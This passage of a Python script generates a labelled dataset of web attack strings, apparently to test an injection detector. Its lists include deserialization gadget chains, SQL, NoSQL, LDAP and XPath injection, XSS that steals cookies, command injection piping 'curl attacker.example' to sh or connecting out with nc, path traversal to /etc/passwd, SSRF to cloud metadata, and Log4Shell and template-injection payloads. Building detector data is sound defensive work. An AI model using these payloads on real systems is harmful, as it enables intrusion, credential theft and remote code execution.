    ("yaml-ruby", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve"),
    ("pickle-python", "cos\nsystem\n(S'id'\ntR."),
    ("php-unserialize", "O:8:\"Composer\":1:{s:4:\"hook\";s:34:\"system('curl attacker.example|sh')\";}"),
    ("php-unserialize-phar", "phar:///var/www/uploads/avatar.jpg/test.txt"),
    ("java-xstream-xml", "<sorted-set><string>widgets</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>curl attacker.example|sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("dotnet-json-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Obj\",\"autoCommit\":true}]"),
]

# ------------------------------------------------------------------ nosqli (25 literals)
A["nosqli"] = [
    ("login-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("login-ne", "{\"$ne\": \"\"}"),
    ("login-gt", "{\"$gt\": \"\"}"),
    ("login-regex", "{\"$regex\": \"^a\"}"),
    ("token-regex-extract", "{\"token\": {\"$regex\": \"^npm_a.*\"}}"),
    ("query-bracket-ne", "password[$ne]=x"),
    ("query-bracket-gt", "username[$gt]=&password[$gt]="),
    ("query-bracket-regex", "name[$regex]=.*&name[$options]=i"),
    ("query-bracket-in", "role[$in][]=admin&role[$in][]=owner"),
    ("where-js", "{\"$where\": \"this.password.length > 0\"}"),
    ("where-js-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-string-breakout", "lodash'; return true; var x='"),
    ("where-string-breakout", "x' || '1'=='1"),
    ("where-string-breakout", "'; while(true){}; '"),
    ("search-or", "{\"$or\": [{\"private\": true}, {\"private\": false}]}"),
    ("search-nin", "{\"scope\": {\"$nin\": []}}"),
    ("search-exists", "{\"secret\": {\"$exists\": true}}"),
    ("aggregation-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("function-js", "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}"),
    ("expr-injection", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("elastic-script", "{\"script\": {\"source\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}"),
    ("redis-eval", "EVAL \"return redis.call('config','set','dir','/var/www')\" 0"),
    ("plain-ne", "[$ne]=1"),
    ("plain-gt", "{\"$gt\":\"\"}"),
]

# ------------------------------------------------------------------ crlf (27 literals)
A["crlf"] = [
    ("log-forging", "widgets@2.1.0\n2024-03-11T10:00:00Z INFO user=admin action=publish package=@acme/core status=ok"),
    ("log-forging", "left-pad\r\n[INFO] 203.0.113.50 - admin logged in successfully"),
    ("log-forging", "search term\n127.0.0.1 - - [11/Mar/2024:10:00:00 +0000] \"GET /-/admin HTTP/1.1\" 200 12"),
    ("log-forging-encoded", "react%0d%0a[WARN] audit: token rotated by admin"),
    ("log-forging-encoded", "zod%0aINFO publish ok user=root"),
    ("log-forging-unicode-ls", "lodash\u2028ERROR forged line via unicode line separator"),
    ("log-forging-ansi", "debug\u001b[2K\u001b[1A\u001b[32m[ok] integrity verified\u001b[0m"),
    ("header-injection", "widgets\r\nSet-Cookie: session=attacker; Path=/"),
    ("header-injection", "1.2.3\r\nX-Forwarded-For: 127.0.0.1"),
    ("header-injection-encoded", "en-US%0d%0aSet-Cookie:%20sid=fixated"),
    ("header-injection-encoded", "utf-8%0D%0ALocation:%20https://attacker.example/"),
    ("response-splitting", "/-/v1/search\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("response-splitting-encoded", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>pwn</h1>"),
    ("response-splitting-double-encoded", "%250d%250aSet-Cookie:%2520admin=1"),
    ("redirect-param", "/login?next=%0d%0aLocation:%20https://attacker.example"),
    ("header-injection-lf-only", "acme\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("header-injection-utf8", "x%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("mail-header-bcc", "zoe@example.org\r\nBcc: all-maintainers@attacker.example"),
    ("mail-header-cc", "security-report\nCc: leak@attacker.example"),
    ("mail-header-subject", "Your package was published\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Verify your account</a>"),
    ("mail-header-encoded", "maintainer@example.org%0aBcc:victims@attacker.example"),
    ("mail-header-from", "New advisory\nFrom: security@registry.example\nReply-To: phish@attacker.example"),
    ("smtp-command-injection", "user@example.org>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n."),
    ("http-request-smuggling-header", "x\r\nTransfer-Encoding: chunked"),
    ("csv-log-newline", "v1.0.0\",\"ok\"\n\"v9.9.9\",\"=HYPERLINK(\"\"http://attacker.example\"\")"),
    ("plain-crlf", "\r\nSet-Cookie: x=1"),
    ("plain-crlf-encoded", "%0d%0aSet-Cookie:x=1"),
]

# ------------------------------------------------------------------ ldap-xpath (18 literals)
A["ldap-xpath"] = [
    ("ldap-login-wildcard", "*"),
    ("ldap-login-or", "admin)(|(uid=*"),
    ("ldap-login-and-true", "admin)(&)"),
    ("ldap-attr-extract", "*)(userPassword=*"),
    ("ldap-attr-extract", "zoe)(|(memberOf=cn=registry-admins,ou=groups,dc=acme,dc=example)"),
    ("ldap-blind-prefix", "maint*)(mail=a*"),
    ("ldap-and-negation", "admin)(!(&(1=0"),
    ("ldap-filter-close-reopen", "*)(uid=*))(|(uid=*"),
    ("ldap-group-search", "devs)(objectClass=*))(|(cn=*"),
    ("xpath-login-or", "' or '1'='1"),
    ("xpath-login-or", "admin' or 1=1 or 'a'='a"),
    ("xpath-extract", "x' or name()='password' or 'a'='b"),
    ("xpath-union-node", "x']|//user/password|//*['"),
    ("xpath-count-blind", "' or count(/packages/package)>10 and '1'='1"),
    ("xpath-substring-blind", "' or substring(//user[1]/token,1,1)='n' or 'a'='b"),
    ("xpath-string-length", "x' or string-length(//maintainer[1]/password)=8 or ''='"),
    ("xpath-doc-ssrf", "x' or doc('http://attacker.example/x.xml') or 'a'='a"),
    ("xpath-numeric", "1 or 1=1"),
]

# ------------------------------------------------------------------ templates
# One small template per category: either join a hand-written domain prefix to a
# hand-written payload (class suffix "+prefixed"), or URL-encode one hand-written
# payload (class suffix "+urlencode").
PREFIXES = {
    "sqli": ["npm view ", "pkg: ", "search?q=", "dependency "],
    "xss": ["README excerpt: ", "Release notes v2.0 ", "Description: ", "Comment: "],
    "cmdi": ["npm install ", "pip install ", "cargo add ", "yarn add "],
    "traversal": ["tarball entry ", "readme path: ", "file: ", "entry="],
    "ssrf": ["registry=", "--registry ", "tarball: ", "index-url = "],
    "code": ["Changelog entry: ", "template: ", "description=", "User-Agent: npm/10.2.4 "],
    "nosqli": ["filter=", "query: "],
    "crlf": ["referer: ", "name="],
    "ldap-xpath": ["owner=", "maintainer: "],
}
GEN = {
    # category: (n prefixed, n urlencoded, payload pool of (class, payload))
    "sqli": (5, 5, [
        ("union-select", "x' UNION SELECT login,pass_hash FROM maintainers--"),
        ("boolean", "x' OR 'a'='a'--"),
        ("time-mysql", "x' AND SLEEP(6)#"),
        ("stacked-drop", "x'; DROP TABLE downloads--"),
        ("time-postgres", "x';SELECT pg_sleep(8)--"),
        ("error-mysql", "x' AND extractvalue(1,concat(0x7e,version()))-- -"),
    ]),
    "xss": (5, 5, [
        ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
        ("svg-onload", "<svg onload=alert(document.domain)>"),
        ("script-tag", "<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
        ("body-onpageshow", "<body onpageshow=alert(1)>"),
        ("a-javascript", "<a href=\"javascript:alert(1)\">Download</a>"),
        ("iframe-js", "<iframe src=javascript:alert(1)>"),
    ]),
    "cmdi": (4, 4, [
        ("semicolon", "pkg; curl -s attacker.example/x | sh"),
        ("subshell", "pkg$(id)"),
        ("and-chain", "pkg && cat /etc/shadow"),
        ("pipe", "pkg | nc 203.0.113.66 9001"),
        ("backtick", "pkg`uname -a`"),
    ]),
    "traversal": (3, 3, [
        ("dotdot", "../../../../etc/passwd"),
        ("dotdot-windows", "..\\..\\..\\..\\windows\\win.ini"),
        ("dotdot-home", "../../../root/.npmrc"),
        ("dotdot-proc", "../../../../proc/self/environ"),
    ]),
    "ssrf": (3, 3, [
        ("metadata", "http://169.254.169.254/latest/meta-data/"),
        ("localhost", "http://127.0.0.1:9000/"),
        ("private", "http://10.10.0.3:8080/actuator/env"),
        ("gcp", "http://metadata.google.internal/computeMetadata/v1/"),
    ]),
    "code": (3, 3, [
        ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
        ("ssti-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("ssti-erb", "<%= `id` %>"),
        ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ]),
    "nosqli": (1, 1, [
        ("ne", "{\"$ne\": null}"),
        ("where", "{\"$where\": \"1==1\"}"),
    ]),
    "crlf": (1, 2, [
        ("header-injection", "x\r\nSet-Cookie: sid=attacker"),
        ("log-forging", "x\nINFO login ok user=admin"),
    ]),
    "ldap-xpath": (1, 1, [
        ("ldap-or", "*)(|(objectClass=*"),
        ("xpath-or", "' or '1'='1"),
    ]),
}

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def build():
    rng = random.Random(SEED)
    rows = []
    n_lit = 0
    for cat in ORDER:
        vals = [(c, v) for c, v in A[cat]]
        n_lit += len(vals)
        n_pre, n_enc, pool = GEN[cat]
        seen = set(v for _, v in vals)
        added = 0
        guard = 0
        while added < n_pre:
            guard += 1
            assert guard < 1000
            c, p = rng.choice(pool)
            v = rng.choice(PREFIXES[cat]) + p
            if v in seen:
                continue
            seen.add(v)
            vals.append((c + "+prefixed", v))
            added += 1
        added = 0
        while added < n_enc:
            guard += 1
            assert guard < 2000
            c, p = rng.choice(pool)
            v = urllib.parse.quote(p, safe="")
            if v in seen:
                continue
            seen.add(v)
            vals.append((c + "+urlencode", v))
            added += 1
        for c, v in vals:
            rows.append((cat, c, v))
    out = []
    for i, (cat, c, v) in enumerate(rows, 1):
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": c,
                    "label": "attack", "value": v})
    return out, n_lit


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here, "attacks.jsonl")
    rows, _ = build()
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
